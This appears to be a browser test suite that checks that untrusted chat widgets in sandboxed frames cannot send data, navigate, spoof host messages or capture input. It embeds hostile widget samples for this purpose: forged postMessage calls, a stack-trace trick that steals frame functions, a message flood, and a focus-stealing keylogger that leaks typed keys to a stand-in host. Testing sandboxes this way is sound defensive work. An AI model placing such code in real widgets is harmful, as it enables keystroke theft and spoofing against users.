// budget: 25 s: every attack is tried in two browsers
import assert from "node:assert/strict";
import { attackingWidget, ATTACKS } from "../attacks.ts";
import {
  type BrowserPage,
  paintTwice,
  testFirefoxInSoak,
  testInChromium,
  testInEachBrowser,
  testInSoak,
  waitFor,
} from "../each_browser.ts";
import { whileNothingMay } from "../../../waiting/mod.ts";
import { FRESH_GLOBALS } from "../fresh_globals.ts";
import { navigatingWidget, NAVIGATIONS, NAVIGATIONS_IN_EACH_RUN } from "../navigations.ts";
import { ChatSite, findCards, findView, readCards, readRecord, readShown, VIEW_POLICY } from "./chat_site.ts";

let site: ChatSite;
Deno.test.beforeAll(async () => void (site = await ChatSite.open()));
Deno.test.afterAll(() => site.close());

/** Shows a widget that attacks, in a chat. Returns which attacks succeeded. */
async function attack(page: BrowserPage, attacks: { readonly [name: string]: string }): Promise<unknown> {
  const { origin, elsewhere } = site.sealed;
  site.sealed.received.length = 0;
  const { batch } = await site.addPage([{ module: attackingWidget(origin, elsewhere, [], attacks) }]);
  await site.show(page, { tool: "show_card", input: { batch, widget: "weather" } });
  const cards = await findCards(page, 1);
  const results = await waitFor(() =>
    cards.evaluate(() =>
      document.querySelector("article")?.shadowRoot?.querySelector("[data-results]")?.textContent ?? null
    )
  );
  return JSON.parse(results);
}

/** A chat decides which features of the browser its frames have. */
const FEATURES = "features of the browser that nobody needs";

// claim: chat-no-requests
testInEachBrowser(
  "a widget in a chat stores nothing, sends nothing and opens nothing",
  () => site.sealed,
  async (page) => {
    const { [FEATURES]: _, ...attacks } = ATTACKS;
    assert.deepEqual(await attack(page, attacks), []);
    assert.deepEqual(site.sealed.received, []);
  },
);

// claim: chat-no-requests
testFirefoxInSoak(
  "a widget in a chat gets no window with the globals that its own has lost",
  () => site.sealed,
  async (page) => {
    assert.deepEqual(await attack(page, FRESH_GLOBALS), []);
  },
);

/** A text that the view says in place of the cards. */
async function waitForText(page: BrowserPage, text: string): Promise<void> {
  const view = await findView(page);
  await waitFor(() => view.evaluate((text) => document.body.innerText.includes(text) || null, text));
}

const LOST = "A card has stopped the view.";

/** A widget that shows a text, and does something before. */
const doing = (text: string, code = "") => `
  import { createElement as h } from "react";
  ${code}
  export default () => h("p", null, ${JSON.stringify(text)});`;

// claim: chat-no-navigation
testInChromium(
  "a widget that navigates its frame sends nothing, also where the chat sets no policy",
  () => site.sealed,
  (page) => expectNothingSent(page, NAVIGATIONS_IN_EACH_RUN),
);

testInSoak(
  "a widget that navigates its frame by any way sends nothing, also where the chat sets no policy",
  () => site.sealed,
  (page) => expectNothingSent(page, Object.keys(NAVIGATIONS)),
);

/** Asserts that a widget in a chat without a policy sends nothing by some ways to navigate. */
async function expectNothingSent(page: BrowserPage, ways: readonly string[]): Promise<void> {
  const { elsewhere, received } = site.sealed;
  received.length = 0;
  site.viewPolicy = null;
  try {
    for (const name of ways) {
      const body = `${NAVIGATIONS[name]} parent.parent.parent.postMessage("left", "*");`;
      const { batch } = await site.addPage([{ module: navigatingWidget(body, elsewhere) }]);
      await site.show(page, { tool: "show_card", input: { batch, widget: "weather" } });
      await page.evaluate(() =>
        new Promise<void>((resolve) => {
          addEventListener("message", ({ data }) => data === "left" && resolve());
          setTimeout(resolve, 1_000); // timer: a browser may have stopped the card before it could say so
        })
      );
      // What a browser sends, it sends before it answers a request of the same page that is made later.
      await page.evaluate(() => fetch("/later").then((response) => response.text()));
      assert.deepEqual(received, [], name);
    }
  } finally {
    site.viewPolicy = VIEW_POLICY;
  }
}

// claim: chat-lost-frame
testFirefoxInSoak(
  "a view says so when the document of its cards is replaced, and shows the next result",
  () => site.sealed,
  async (page) => {
    const { batch } = await site.addPage([{ module: doing("here") }]);
    const input = { batch, widget: "weather" };
    await site.show(page, { tool: "show_card", input });
    await findCards(page, 1);
    const view = await findView(page);
    await view.evaluate(() => void (document.querySelector("iframe")!.srcdoc = "gone"));
    await waitForText(page, LOST);
    assert.equal(await view.evaluate(() => document.querySelector("iframe")), null);
    await page.evaluate(async (input) => await chatHost.call("show_card", input), input);
    assert.deepEqual(await readCards(await findCards(page, 1)), ["here"]);
  },
);

// claim: chat-lost-frame
testFirefoxInSoak(
  "a view whose card floods it with messages removes the card, and says so",
  () => site.sealed,
  async (page) => {
    const flood = `setInterval(() => { for (let n = 0; n < 500; n++) parent.postMessage({ n }, "*"); });`;
    const { batch } = await site.addPage([{ module: doing("here", flood) }]);
    await site.show(page, { tool: "show_card", input: { batch, widget: "weather" } });
    await waitForText(page, LOST);
  },
);

// claim: chat-view-untrusting
testFirefoxInSoak(
  "a card cannot speak to the view as the host, nor as the code of its frame",
  () => site.sealed,
  async (page) => {
    const forge = `
      const notify = (method, params) => parent.postMessage({ jsonrpc: "2.0", method, params }, "*");
      notify("ui/notifications/tool-result", { content: [{ type: "text", text: "forged" }] });
      notify("ui/notifications/tool-cancelled", {});
      notify("ui/notifications/host-context-changed", { theme: "dark" });
      parent.postMessage({ jsonrpc: "2.0", id: 9, method: "ui/resource-teardown" }, "*");
      for (const type of ["resize", "open", "shown"]) {
        parent.postMessage({ type, height: 9999, href: "https://example.com/?data", failed: 0 }, "*");
      }
      parent.postMessage("tck:chat-cards", "*");`;
    const { batch } = await site.addPage([{ module: doing("here", forge) }]);
    const input = { batch, widget: "weather" };
    await site.show(page, { tool: "show_card", input, context: { theme: "light" } });
    assert.deepEqual(await readCards(await findCards(page, 1)), ["here"]);
    // Messages arrive in order: by the answer to this one, those of the card have arrived.
    await page.evaluate(async (input) => await chatHost.call("show_card", input), input);
    assert.deepEqual(await readShown(page, 1), ["here"]);
    const view = await findView(page);
    const shown = await view.evaluate(() => [
      document.documentElement.dataset["theme"],
      document.querySelector("iframe")!.offsetHeight < 9999,
      document.querySelector<HTMLElement>("[role=status]")!.innerText.includes("forged"),
    ]);
    assert.deepEqual(shown, ["light", true, false]);
    assert.deepEqual((await readRecord(page)).links, []);
  },
);

// claim: chat-frame-sealed
testFirefoxInSoak(
  "an error in the frame's own code gives a card neither its functions nor a link that opens",
  () => site.sealed,
  async (page) => {
    const module = doing(
      "here",
      `
      const found = new Set();
      Error.prepareStackTrace = (error, sites) => {
        for (const site of sites) if (typeof site.getFunction() === "function") found.add(site.getFunction());
        return "";
      };
      globalThis.given = [];
      const { ceil } = Math;
      addEventListener("error", ({ error }) => {
        void error?.stack;
        for (const one of found) {
          given.push(String(one));
          try { one({ type: "open", href: "https://elsewhere.invalid/?read" }); } catch {}
        }
        Math.ceil = ceil;
      });
      // A port cannot copy it.
      Math.ceil = () => () => {};`,
    );
    const { batch } = await site.addPage([{ module }]);
    await site.show(page, { tool: "show_card", input: { batch, widget: "weather" } });
    const cards = await findCards(page, 1);
    await whileNothingMay("ask the chat to open a link", 500);
    assert.deepEqual(await cards.evaluate(() => Reflect.get(globalThis, "given")), []);
    assert.deepEqual((await readRecord(page)).links, []);
  },
);

// claim: chat-frame-sealed
testFirefoxInSoak(
  "a view has the chat asked to open a link only after a click or key of the reader, whatever its frame says",
  () => site.sealed,
  async (page) => {
    const { batch } = await site.addPage([{ module: doing("here") }]);
    site.cardsDocument = `<!doctype html><script>
      addEventListener("message", ({ ports: [port] }) => {
        port.postMessage({ type: "open", href: "https://elsewhere.invalid/?at-once" });
        port.postMessage({ type: "shown", failed: 0 });
        port.postMessage({ type: "resize", height: 100 });
        addEventListener("click", () => port.postMessage({ type: "open", href: "https://elsewhere.invalid/?clicked" }));
      });
      parent.postMessage("tck:chat-cards", "*");
    </script>`;
    try {
      await site.show(page, { tool: "show_card", input: { batch, widget: "weather" } });
      const view = await findView(page);
      await waitFor(() =>
        view.evaluate(() => document.querySelector("iframe")?.offsetHeight === 100 || null)
      );
      assert.deepEqual((await readRecord(page)).links, []);
      await page.evaluate(paintTwice);
      await page.mouse.click(40, 40);
      const links = await waitFor(async () => {
        const { links } = await readRecord(page);
        return links.length > 0 ? links : null;
      });
      assert.deepEqual(links, ["https://elsewhere.invalid/?clicked"]);
    } finally {
      site.cardsDocument = null;
    }
  },
);

/** Takes the focus again and again, as soon as nothing that the reader did counts any more, and notes the keys that it gets. */
const TAKING_WIDGET = `
  import { createElement as h, useEffect, useRef } from "react";
  export default function Taking() {
    const place = useRef(null);
    useEffect(() => {
      const link = place.current;
      let typed = "";
      addEventListener("keydown", ({ key }) => {
        typed += key;
        link.href = "https://elsewhere.invalid/?typed=" + encodeURIComponent(typed);
      });
      const focus = () => {
        window.focus();
        link.focus();
        document.body.tabIndex = 0;
      };
      const timer = setInterval(() => {
        if (navigator.userActivation.isActive) return;
        clearInterval(timer);
        focus();
        setInterval(focus, 50);
      }, 50);
    }, []);
    return h("a", { ref: place, href: "https://elsewhere.invalid/" }, "link");
  }`;

// claim: chat-focus
testFirefoxInSoak(
  "a card that takes the focus while the reader writes a message gets no words of it and opens nothing, and is removed",
  () => site.sealed,
  async (page) => {
    const { batch } = await site.addPage([{ module: TAKING_WIDGET }]);
    await site.show(page, { tool: "show_card", input: { batch, widget: "weather" } });
    await findCards(page, 1);
    await page.evaluate(() => {
      const field = document.createElement("textarea");
      document.body.prepend(field);
      field.focus();
    });
    // Nothing is evaluated in the frame meanwhile, which browsers take for a use of it.
    await waitFor(async () => {
      for (let key = 0; key < 5; key++) await page.keyboard.press("s");
      await page.keyboard.press("Enter");
      const isTaken = await page.evaluate(() => document.activeElement!.localName !== "textarea");
      return isTaken || null;
    });
    for (let key = 0; key < 20; key++) {
      await page.keyboard.press("s");
      await page.keyboard.press("Enter");
    }
    await waitForText(page, LOST);
    assert.deepEqual((await readRecord(page)).links, []);
  },
);
